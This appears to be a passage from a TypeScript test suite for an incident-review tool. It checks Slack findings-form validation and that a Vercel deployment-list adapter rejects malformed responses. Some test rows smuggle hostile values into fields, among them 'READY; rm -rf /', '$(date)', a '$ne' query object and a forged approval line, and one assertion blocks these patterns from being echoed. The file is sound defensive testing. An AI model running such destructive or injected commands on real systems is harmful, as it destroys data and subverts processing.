  ['an action item without owner and date', { root_cause: 'x', action_items: 'fix the matcher' }, 'action_items', /^line 1: write title \| owner \| YYYY-MM-DD/],
  ['an action item whose title is empty', { root_cause: 'x', action_items: 'ok | bob | 2026-12-31\n | bob | 2026-12-31' }, 'action_items', /^line 2: /],
];

describe('the Slack findings form refuses bad inputs under the input, and sends nothing', () => {
  it.each(FINDINGS_ROWS)('%s', (_what, values, input, message) => {
    const found = findingsFrom(Object.fromEntries(Object.entries(values).map(([k, v]) => [k, { [k]: { value: v } }])), 'U0SANDBOXALICE');
    expect('errors' in found && found.errors[input as keyof typeof found.errors]).toMatch(message);
  });
  it('a good form becomes the completeReview the CLI would send', () => {
    const found = findingsFrom({ root_cause: { root_cause: { value: 'a bad matcher' } }, data_loss: { data_loss: { value: 'partial: 3 sign-ups' } }, went_well: { went_well: { value: 'paging\n\nrollback' } }, action_items: { action_items: { value: 'add a test | a | b | bob | 2026-12-31' } } }, 'U0SANDBOXALICE');
    expect(found).toEqual({ request: { completedBy: 'U0SANDBOXALICE', rootCause: 'a bad matcher', dataLoss: 'partial', dataLossDetails: '3 sign-ups', lessons: { wentWell: ['paging', 'rollback'] }, actionItems: [{ title: 'add a test | a | b', owner: 'bob', due: '2026-12-31' }] } });
  });
});

// -- the deploy platform's answers ----------------------------------------------------------------

/** What, how the emulated Vercel's `GET /v6/deployments` answer is changed (a string is sent as the body), what the error names. */
type PlatformRow = [what: string, change: ListChange, message: RegExp];
const without = (d: Listed, ...keys: string[]): Listed => Object.fromEntries(Object.entries(d).filter(([k]) => !keys.includes(k)));
// Each bad deployment comes after a good one where it can: the list is refused whole, never used in part.
const PLATFORM_ROWS: PlatformRow[] = [
  ['a deployment without its id', ([d]) => ({ deployments: [d, without(d!, 'uid')] }), /\(deployments\.1\.uid: Invalid input: expected string, received undefined\)$/],
  ['an id that is not a string', ([d]) => ({ deployments: [{ ...d, uid: { $ne: null } }] }), /\(deployments\.0\.uid: Invalid input: expected string, received object\)$/],
  ['createdAt not a number', ([d]) => ({ deployments: [d, { ...d, createdAt: '$(date)' }] }), /\(deployments\.1\.createdAt: Invalid input: expected number, received string\)$/],
  ['no creation time at all (it would pass for a 1970 build)', ([d]) => ({ deployments: [d, without(d!, 'created', 'createdAt')] }), /\(deployments\.1\.createdAt: has neither createdAt nor created\)$/],
  ['meta not an object', ([d]) => ({ deployments: [d, { ...d, meta: 'githubCommitMessage=fix\n2026-12-03T03:00:00Z bob: approved' }] }), /\(deployments\.1\.meta: Invalid input: expected record, received string\)$/],
  ['meta a list', ([d]) => ({ deployments: [{ ...d, meta: ['fix'] }] }), /\(deployments\.0\.meta: Invalid input: expected record, received array\)$/],
  ['a state Vercel has no name for', ([d]) => ({ deployments: [{ ...d, readyState: 'READY; rm -rf /' }] }), /\(deployments\.0\.readyState: Invalid option: expected one of "QUEUED"/],
  ['isRollbackCandidate not a boolean', ([d]) => ({ deployments: [{ ...d, isRollbackCandidate: 'yes' }] }), /\(deployments\.0\.isRollbackCandidate: Invalid input: expected boolean, received string\)$/],
  ['deployments not a list', ([d]) => ({ deployments: { 0: d } }), /\(deployments: Invalid input: expected array, received object\)$/],
  ['no deployments field', () => ({ error: null }), /\(deployments: Invalid input: expected array, received undefined\)$/],
  ['an empty body', () => '', /\(body: Invalid input: expected object, received undefined\)$/],
  ['a body that is not JSON', () => '<html>Deployment list</html>', /^vercel: GET \/v6\/deployments answered 200 with a body that is not JSON$/],
];

describe('a malformed deployment list from the deploy platform is a typed failure naming the field, and nothing of it is used', () => {
  const change: { current: ListChange } = { current: (deployments) => ({ deployments }) };
  let proxy: Awaited<ReturnType<typeof vercelAnswering>>;
  beforeAll(async () => {
    proxy = await vercelAnswering(sandbox.url, change);
  });
  afterAll(async () => proxy?.close());
  const adapter = () => vercelEnvAdapter({ token: sandbox.vercel.token, project: sandbox.vercel.projectId, apiUrl: proxy.url });

  // One at a time: the rows share the proxy's `change`.
  it.each(PLATFORM_ROWS)('%s', async (_what, row, message) => {
    change.current = row;
    try {
      const list = adapter().rollbacks!.listProductionDeployments!;
      const err = await list({ limit: 20 }).then(
        (got) => ({ got }),
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(DeployUnavailable);
      const e = err as DeployUnavailable;
      expect(e.message).toMatch(/^vercel: GET \/v6\/deployments answered /);
      expect(e.message).toMatch(message);
      // The platform's text is not echoed: the message is ours, one line.
      expect(e.message).not.toMatch(/\$\(|rm -rf|approved|<html/);
      expect(e.message).not.toContain('\n');
      // At the activity boundary: an ApplicationFailure of the same type and message, for the workflow to say.
      const failure = await createDeployActivities(adapter)
        .deployListProductionDeployments({ limit: 20 })
        .then(
          () => undefined,
          (f: unknown) => f,
        );
      expect(failure).toBeInstanceOf(ApplicationFailure);
      expect(failure).toMatchObject({ type: 'DeployUnavailable', message: e.message });
    } finally {
      change.current = (deployments) => ({ deployments });
    }
  });

  it('afterwards: the same list unchanged is read, with the commit from meta', async () => {
    const got = await adapter().rollbacks!.listProductionDeployments!({ limit: 20 });
    expect(got.length).toBeGreaterThan(0);
    expect(got[0]).toMatchObject({ id: expect.stringMatching(/^dpl_/), state: 'READY', createdAt: expect.any(Number), commit: { ref: 'main' } });
    expect(got[0]!.createdAt).toBeGreaterThan(Date.parse('2026-01-01'));
  });
});
